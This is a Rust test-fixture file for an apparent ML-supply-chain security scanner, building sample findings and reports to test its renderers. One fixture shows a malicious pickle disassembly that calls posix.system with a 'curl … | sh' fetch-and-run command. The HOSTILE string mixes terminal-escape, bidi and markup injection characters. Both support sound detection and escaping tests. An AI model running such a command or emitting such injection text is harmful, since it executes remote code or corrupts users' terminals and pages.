//! Reports such as the engine makes, one of each kind of input, for the tests of every renderer.

use std::collections::BTreeMap;
use wellhead_core::{
    ArtifactPath, Bucket, Component, ComponentKind, Confidence, Coverage, DatabaseInfo, Depth, Digest,
    Disposition, Ecosystem, Edit, Excerpt, ExcerptKind, Finding, Fix, Ignored, Level, Location, Measure,
    MeasureSummary, Need, Outcome, Reference, Report, Risk, Rule, RuleStatus, Scenario, Service, Severity,
    Source, Span, Stats, Status, ThreatProfile, Verdict, assess, code,
};

const THREAT: ThreatProfile = ThreatProfile {
    agent: "whoever can put a file on a hub",
    vector: "a model that is downloaded and loaded",
    weakness: "pickle calls what the file names",
    impact: "the attacker's code runs as the user who loads the model",
};

const fn rule(
    id: &'static str,
    severity: Severity,
    measure: Measure,
    references: &'static [Reference],
) -> Rule {
    Rule {
        id,
        summary: "a model file runs code when it is loaded",
        severity,
        confidence: Confidence::High,
        measure,
        scenario: Some(Scenario::HubImpersonator),
        risk: Risk::ML06,
        threat: THREAT,
        needs: &[],
        status: RuleStatus::Stable,
        references,
        page: PAGE,
        file: file!(),
    }
}

pub(crate) const PAGE: &str = "# unsafe-pickle-import

## What it does

Finds pickles that call something *dangerous* while they are loaded, such as `posix.system`. See
[the documentation](https://docs.example/pickle).

## Why is this bad

Loading the file is enough; nothing has to be called.

## Example

```pickle file=model.pkl
GLOBAL 'posix system'
REDUCE
```

## Use instead

- safetensors
- a pickle of plain values

## How to fix

1. Re-export the weights.

## References

- CWE-502
";

pub(crate) static PICKLE: Rule = rule(
    "unsafe-pickle-import",
    Severity::Critical,
    Measure::Integrity,
    &[
        Reference::Cwe(502),
        Reference::Atlas("AML.T0018"),
        Reference::Owasp("ML06:2023"),
    ],
);
pub(crate) const REMOTE_VALUE: Rule = rule(
    "trust-remote-code",
    Severity::Medium,
    Measure::Sources,
    &[Reference::Cwe(829)],
);
pub(crate) static REMOTE: Rule = REMOTE_VALUE;
pub(crate) static VULNERABLE: Rule = Rule {
    needs: &[Need::Advisories],
    ..rule(
        "vulnerable-package",
        Severity::High,
        Measure::Updates,
        &[Reference::Cwe(1395)],
    )
};
pub(crate) static UNUSED: Rule = rule("unused-ignore", Severity::Low, Measure::Sources, &[]);
pub(crate) static SERVICE: Rule = rule(
    "open-dashboard",
    Severity::High,
    Measure::Infrastructure,
    &[Reference::Cwe(306)],
);

pub(crate) static RULES: &[&Rule] = &[&PICKLE, &REMOTE, &VULNERABLE, &UNUSED, &SERVICE];

pub(crate) fn pickle() -> Finding {
    let path = ArtifactPath::file("models/resnet.pt").member("archive/data.pkl");
    let mut e = Excerpt::new(ExcerptKind::Disassembly);
    e.push_line(10, "0x20  GLOBAL      'posix system'");
    e.push_line(11, "0x2e  BINPUT      3");
    e.push_line(12, "0x30  BINUNICODE  'curl -s 203.0.113.7/x | sh'");
    e.push_line(16, "0x54  REDUCE");
    e.mark(
        16,
        "REDUCE",
        "called as soon as `torch.load` reads the file",
        true,
    );
    e.mark(10, "'posix system'", "imported here", false);
    e.mark(12, "'curl -s 203.0.113.7/x | sh'", "with this argument", false);
    let location = Location::bytes(&path, 0x54, 1, "called").with_excerpt(e);
    Finding::new(&PICKLE, "loading this model runs `posix.system`", location)
        .help("re-export the weights as safetensors")
        .subject("posix.system")
}

pub(crate) const TRAIN: &str = "model = AutoModel.from_pretrained(
    \"acme/bert-tiny\",
    trust_remote_code=True,
)
";

pub(crate) fn python() -> Finding {
    let path = ArtifactPath::file("src/train.py");
    let at = |part: &str| TRAIN.find(part).map(|i| i..i + part.len()).unwrap();
    let location = Location::text(
        &path,
        TRAIN,
        at("trust_remote_code=True"),
        "executes `modeling_*.py` from the hub",
    )
    .and(
        TRAIN,
        at("\"acme/bert-tiny\""),
        "no `revision=`: follows the branch `main`",
    );
    Finding::new(&REMOTE, "a hub repository may run its own Python code", location).fix(Fix {
        description: "pin the commit: `revision=\"6f75de8b…\"`".into(),
        disposition: Disposition::Safe,
        edits: vec![Edit {
            artifact: path,
            range: 40..56,
            replacement: "\"acme/bert-tiny\", revision=\"6f75de8b\"".into(),
        }],
        command: None,
    })
}

pub(crate) fn config() -> Finding {
    let text = "[[ignore]]\nrule = \"x\"\npath = \"old/train.py\"\nreason = \"pinned by the deploy job\"\n";
    let at = |part: &str| text.find(part).map(|i| i..i + part.len()).unwrap();
    let path = ArtifactPath::file("wellhead.toml");
    let location = Location::text(
        &path,
        text,
        at("\"old/train.py\""),
        "no finding of this rule here",
    )
    .and(text, at("\"pinned by the deploy job\""), "reason");
    Finding::new(&UNUSED, "this ignore matched nothing", location).help("remove the entry")
}

pub(crate) fn service() -> Finding {
    let path = ArtifactPath::file("captures/jupyter.json");
    let mut e = Excerpt::new(ExcerptKind::Response);
    e.push_line(1, "GET /api/kernels HTTP/1.1");
    e.push_line(2, "HTTP/1.1 200 OK");
    e.push_line(3, "server: TornadoServer/6.4");
    e.push_line(6, "[{\"id\": \"5b0c\", \"execution_state\": \"idle\"}]");
    e.mark(
        2,
        "200 OK",
        "answered without any credentials, so that whoever reaches the port can start kernels",
        true,
    );
    e.mark(3, "TornadoServer/6.4", "", false);
    let span = Span::Logical {
        path: "answer to GET /api/kernels".into(),
    };
    let location = Location {
        span,
        ..Location::whole(&path, "open").with_excerpt(e)
    };
    Finding::new(
        &SERVICE,
        "anybody who reaches `http://10.0.0.5:8888` runs code in this Jupyter",
        location,
    )
    .property("state", "OPEN_EXEC")
    .property("score", 9.8)
    .note("JupyterHub 4.1.5; the port is published by `docker-compose.yml`")
    .at(Location::whole(
        &ArtifactPath::file("docker-compose.yml"),
        "publishes the port",
    ))
    .help("set a token: `--IdentityProvider.token=…`, and bind the port to 127.0.0.1")
}

pub(crate) fn package(
    name: &str,
    version: &str,
    advisory: &str,
    severity: Severity,
    fixed: &[&str],
) -> Finding {
    let path = ArtifactPath::file("uv.lock");
    let text = format!("[[package]]\nname = \"{name}\"\nversion = \"{version}\"\n");
    let message = format!(
        "{} {} is affected by {}",
        code(name),
        code(version),
        code(advisory)
    );
    Finding::new(
        &VULNERABLE,
        message,
        Location::text(&path, &text, 12..12 + 9 + name.len(), "declared here"),
    )
    .severity(severity)
    .property("package", name)
    .property("version", version)
    .property("advisory", advisory)
    .property("fixed_in", fixed.to_vec())
    .property(
        "summary",
        "Something in it can be made to do what it should not do when given certain input",
    )
    .subject(format!("{name} {advisory}"))
}

pub(crate) fn packages() -> Vec<Finding> {
    vec![
        package("torch", "2.5.1", "PYSEC-2025-41", Severity::Critical, &["2.6.0"])
            .property("aliases", vec!["GHSA-53q9-r3pm-6pq6", "CVE-2025-32434"])
            .property("via", vec!["train-kit", "acme"]),
        package("torch", "2.5.1", "CVE-2025-2953", Severity::Medium, &["2.7.1"]),
        package(
            "torch",
            "2.5.1",
            "CVE-2025-3730",
            Severity::Medium,
            &["2.4.9", "2.8.0"],
        ),
        package("pillow", "10.1", "GHSA-3f63-hfp8-52jq", Severity::High, &["10.2"]).property("direct", true),
        package("漢字-tools", "1.0", "PYSEC-2026-1", Severity::Low, &[]),
    ]
}

/// A report over `findings`, as the engine puts it together.
pub(crate) fn report(findings: Vec<Finding>) -> Report {
    let fail_on = Some(Severity::High);
    let assessed: Vec<Measure> = findings
        .iter()
        .map(|f| f.measure)
        .chain([Measure::Integrity])
        .collect();
    let measures = Measure::ALL
        .iter()
        .map(|measure| {
            let of = |fails: bool| {
                let of = |f: &&Finding| f.measure == *measure && f.is_reported();
                findings
                    .iter()
                    .filter(of)
                    .filter(|f| Verdict::fails(f, fail_on) == fails)
                    .count() as u64
            };
            let seen = assessed.contains(measure);
            MeasureSummary {
                measure: *measure,
                deny: of(true),
                warn: of(false),
                ok: if seen { 12 } else { 0 },
                not_assessed: u64::from(!seen),
            }
        })
        .collect();
    let because: Vec<String> = findings
        .iter()
        .filter(|f| Verdict::fails(f, fail_on))
        .map(Finding::fingerprint)
        .collect();
    Report {
        tool_version: "0.1.0".into(),
        targets: vec![".".into()],
        coverage: vec![Coverage {
            artifact: ArtifactPath::file("src/train.py"),
            outcome: Outcome::Analysed,
            depth: Depth::Full,
            format: Some("python".into()),
        }],
        risk: assess(&findings, RULES, &assessed),
        verdict: Verdict {
            allowed: because.is_empty(),
            fail_on,
            because,
        },
        findings,
        components: Vec::new(),
        measures,
        databases: Vec::new(),
        not_assessed: Vec::new(),
        services: Vec::new(),
        stats: Stats {
            files: 214,
            models: 3,
            packages: 148,
            bytes: 1_000_000,
        },
    }
}

/// A report with a running service in it.
pub(crate) fn running() -> Report {
    let mut out = report(Vec::new());
    out.services = vec![Service {
        address: "https://203.0.113.7:5000".into(),
        product: "mlflow".into(),
        name: "MLflow".into(),
        state: "PROTECTED".into(),
        version: Some("3.17.2".into()),
        request: "GET /api/2.0/mlflow/experiments/search?max_results=1".into(),
        status: 401,
        body_sha256: Some("00".repeat(32)),
        open: Vec::new(),
        guarded: vec!["interface".into()],
        notes: vec!["the certificate was not verified".into()],
    }];
    out
}

/// One of everything, with what was not looked at, ignores and a database.
pub(crate) fn everything() -> Report {
    let mut findings = vec![pickle(), service(), python(), config()];
    findings.extend(packages());
    let mut ignored = pickle();
    ignored.status = Status::Ignored(Box::new(Ignored {
        reason: "rebuilt at release from the checked-in JSON".into(),
        expires: Some("2027-03-01".into()),
        by: Some(Location::text(
            &ArtifactPath::file("wellhead.toml"),
            "a\nb = 1",
            2..7,
            "",
        )),
    }));
    ignored.locations[0].artifact = ArtifactPath::file("legacy/a.pkl");
    findings.push(ignored);
    let mut suppressed = python();
    suppressed.status = Status::Suppressed;
    suppressed.level = Some(Level::Warn);
    findings.push(suppressed);
    let mut out = report(findings);
    out.coverage.push(Coverage {
        artifact: ArtifactPath::file("models/resnet.pt"),
        outcome: Outcome::Partly {
            why: "expands to more than 8 GB".into(),
        },
        depth: Depth::Headers,
        format: Some("torch".into()),
    });
    out.coverage.push(Coverage {
        artifact: ArtifactPath::file("weights.7z"),
        outcome: Outcome::NotAnalysed {
            why: "encrypted".into(),
        },
        depth: Depth::Headers,
        format: None,
    });
    out.databases = vec![DatabaseInfo {
        name: "osv".into(),
        records: 31_204,
        date: "2026-11-03".into(),
        digest: "sha256:00".into(),
    }];
    out.not_assessed = vec!["metadata of the hub: the run was offline".into()];
    out.components = vec![component()];
    out
}

pub(crate) fn component() -> Component {
    Component {
        kind: ComponentKind::Library,
        ecosystem: Ecosystem::PyPI,
        name: "torch".into(),
        written: "Torch".into(),
        version: Some("2.5.1+cu121".into()),
        specifier: Some("==2.5.1".into()),
        marker: Some("sys_platform == 'linux'".into()),
        hashes: Digest::parse(&format!("sha256:{}", "0".repeat(64)))
            .into_iter()
            .collect(),
        source: Source::Registry {
            url: Some("https://pypi.example/simple".into()),
        },
        bucket: Bucket::Exact,
        direct: Some(false),
        via: vec!["train-kit".into()],
        declared: Location::text(&ArtifactPath::file("uv.lock"), "name = \"torch\"", 0..4, ""),
    }
}

/// Text that tries everything at once.
pub(crate) const HOSTILE: &str =
    "\x1b[31m\u{202e}evil\r\n::error::x|`<img src=x>`|@octocat #1 \u{e400}\u{e100}\t漢\u{9b}2J ]]> & \"";

/// A report with [`HOSTILE`] text in every field that holds text.
pub(crate) fn hostile() -> Report {
    let h = || HOSTILE.to_owned();
    let path = ArtifactPath::file(h()).member(h());
    let mut location = Location::text(&path, HOSTILE, 3..40, h());
    let mut raw = Excerpt::new(ExcerptKind::Source);
    raw.lines
        .push(wellhead_core::ExcerptLine { number: 7, text: h() });
    raw.marks.push(wellhead_core::Mark {
        line: 7,
        range: 8..HOSTILE.len(),
        label: h(),
        primary: true,
    });
    raw.marks.push(wellhead_core::Mark {
        line: 7,
        range: 1..2,
        label: h(),
        primary: false,
    });
    location.excerpt = Some(raw);
    let logical = Location {
        span: Span::Logical { path: h() },
        ..Location::whole(&path, h())
    };
    let fix = Fix {
        description: h(),
        disposition: Disposition::Unsafe,
        edits: vec![Edit {
            artifact: path.clone(),
            range: 0..1,
            replacement: h(),
        }],
        command: Some(h()),
    };
    let mut finding = Finding::new(&PICKLE, h(), location.clone())
        .at(logical)
        .note(h())
        .help(h())
        .fix(fix)
        .subject(h())
        .property(HOSTILE, h());
    finding.rule = h().into();
    let mut ignored = finding.clone();
    ignored.status = Status::Ignored(Box::new(Ignored {
        reason: h(),
        expires: Some(h()),
        by: Some(location.clone()),
    }));
    let mut findings = vec![finding, ignored];
    for advisory in ["a", "b"] {
        let mut f = package(HOSTILE, HOSTILE, advisory, Severity::High, &[HOSTILE])
            .property("aliases", vec![h()])
            .property("summary", h())
            .property("via", vec![h()])
            .property("advisory", h());
        f.locations[0].artifact = path.clone();
        findings.push(f);
    }
    let mut out = report(findings);
    out.tool_version = h();
    out.targets = vec![h()];
    out.coverage.push(Coverage {
        artifact: path,
        outcome: Outcome::NotAnalysed { why: h() },
        depth: Depth::Full,
        format: Some(h().into()),
    });
    out.databases = vec![DatabaseInfo {
        name: h(),
        records: 1,
        date: h(),
        digest: h(),
    }];
    out.not_assessed = vec![h()];
    let mut c = component();
    c.name = h();
    c.written = h();
    c.version = Some(h());
    c.via = vec![h()];
    c.source = Source::Vcs {
        url: h(),
        revision: Some(h()),
    };
    c.bucket = Bucket::Unauditable { why: h() };
    c.declared = location;
    out.components = vec![c];
    out
}

/// 259 advisories in 25 packages, as a real lock of a machine-learning project has them.
pub(crate) fn large_lock() -> Report {
    let names = [
        "aiohttp",
        "torch",
        "transformers",
        "pillow",
        "mlflow",
        "gradio",
        "ray",
        "jupyter-server",
        "tornado",
        "urllib3",
        "requests",
        "jinja2",
        "werkzeug",
        "cryptography",
        "protobuf",
        "onnx",
        "keras",
        "scikit-learn",
        "langchain-community",
        "numpy",
        "setuptools",
        "certifi",
        "idna",
        "opencv-python-headless",
        "h11",
    ];
    let mut per_package: BTreeMap<&str, usize> = names.iter().map(|n| (*n, 10)).collect();
    *per_package.get_mut("aiohttp").unwrap() = 19;
    let mut findings = Vec::new();
    for (i, name) in names.iter().enumerate() {
        for n in 0..per_package[name] {
            let severity = Severity::ALL[(4 + 5 - (n + i) % 5) % 5];
            let id = format!("CVE-2025-{}", 10_000 + i * 100 + n);
            let fixed = format!("3.{}.{}", n / 2, i);
            let fixed: &[&str] = if n == 9 && i % 7 == 3 { &[] } else { &[&fixed] };
            let via: &[&str] = if i % 3 == 0 {
                &[]
            } else {
                &["train-kit", "acme-pipelines"]
            };
            findings.push(
                package(name, "2.0.1", &id, severity, fixed)
                    .property("direct", i % 3 == 0)
                    .property("via", via.to_vec()),
            );
        }
    }
    findings.sort_by_key(|f| std::cmp::Reverse(f.severity));
    report(findings)
}
